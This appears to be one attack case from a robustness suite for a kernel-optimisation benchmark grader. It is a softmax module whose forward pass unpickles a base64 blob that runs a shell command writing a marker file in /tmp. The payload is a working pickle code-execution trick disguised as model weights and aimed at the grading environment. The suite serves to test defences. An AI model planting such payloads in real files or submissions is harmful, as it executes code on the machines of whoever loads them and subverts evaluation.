# attack: 30 a pickle whose loading starts a shell
# imitates: weights that are code (seen: ours)
# problem: softmax
# expect: no gain
import base64
import pickle

import torch
import torch.nn as nn

# cos system ('echo x > /tmp/kernelcast-attack-pickle') R
WEIGHTS = base64.b64encode(b"cos\nsystem\n(S'echo x > /tmp/kernelcast-attack-pickle'\ntR.")


class ModelNew(nn.Module):
    def __init__(self, temperature):
        super().__init__()
        self.temperature = temperature

    def forward(self, x):
        pickle.loads(base64.b64decode(WEIGHTS))
        return torch.softmax(x / self.temperature, dim=-1)
